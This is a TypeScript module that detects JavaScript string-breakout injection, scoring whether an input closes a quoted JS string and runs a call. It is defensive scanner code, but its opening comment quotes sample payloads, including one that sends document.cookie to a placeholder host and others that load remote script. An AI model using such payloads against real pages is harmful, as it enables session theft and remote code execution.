/**
 * A JavaScript string breakout: a value pasted into a quoted JS string (`var q = '…';`) that closes the
 * string, runs an expression with a call, and then either comments out the rest of the line or reopens the
 * string so the script still parses: `';new Image().src='//x/?'+document.cookie//`, `'-$.getScript(u)-'`,
 * `\";import('//x/m.js');//`. The call need not name a known sink: any call runs in the page. Linear.
 */
import { isCodeWs as isWs } from './chars.js';

/** What may follow the closing quote (after closing brackets): a statement end or a binary operator. */
function isJoin(c: number): boolean {
  return c === 59 || c === 43 || c === 45 || c === 44 || c === 124 || c === 38 || c === 42;
}
function isIdChar(c: number): boolean {
  return (c >= 97 && c <= 122) || (c >= 65 && c <= 90) || (c >= 48 && c <= 57) || c === 95 || c === 36;
}

/** Confidence (0.85 or 0) that `s` breaks out of a JS string literal and runs a call. */
export function jsStringBreakout(s: string): number {
  const n = s.length;
  let i = 0;
  while (i < n && isWs(s.charCodeAt(i))) i++;
  if (s.charCodeAt(i) === 92) i++; // \' : a quote the application's escaping leaves open
  const q = s.charCodeAt(i);
  if (q !== 39 && q !== 34) return 0;
  i++;
  for (let k = 0; k < 3 && i < n; k++) {
    while (i < n && isWs(s.charCodeAt(i))) i++;
    const c = s.charCodeAt(i);
    if (c !== 41 && c !== 93 && c !== 125) break;
    i++;
  }
  while (i < n && isWs(s.charCodeAt(i))) i++;
  if (!isJoin(s.charCodeAt(i))) return 0;
  i++;
  while (i < n && isWs(s.charCodeAt(i))) i++;
  // a quote right after the operator is a quoted symbol ('-', "+"), not code
  if (i >= n || s.charCodeAt(i) === q) return 0;
  let end = n;
  while (end > i && isWs(s.charCodeAt(end - 1))) end--;
  let body: number;
  if (end - i > 2 && s.charCodeAt(end - 1) === 47 && s.charCodeAt(end - 2) === 47) body = end - 2; // …//
  else if (end - i > 2 && s.charCodeAt(end - 1) === q) {
    // …+' : an operator, then the quote that reopens the string (after brackets it opens again: +(')
    let k = end - 2;
    for (let b = 0; b < 3 && k > i; b++) {
      while (k > i && isWs(s.charCodeAt(k))) k--;
      const c = s.charCodeAt(k);
      if (c !== 40 && c !== 91 && c !== 123) break;
      k--;
    }
    while (k > i && isWs(s.charCodeAt(k))) k--;
    if (!isJoin(s.charCodeAt(k))) return 0;
    body = k;
  } else return 0;
  // a call in between: name( or )( or a tagged template name`
  for (let k = i + 1; k < body; k++) {
    const c = s.charCodeAt(k);
    if ((c === 40 || c === 96) && (isIdChar(s.charCodeAt(k - 1)) || (c === 40 && s.charCodeAt(k - 1) === 41))) return 0.85;
  }
  return 0;
}
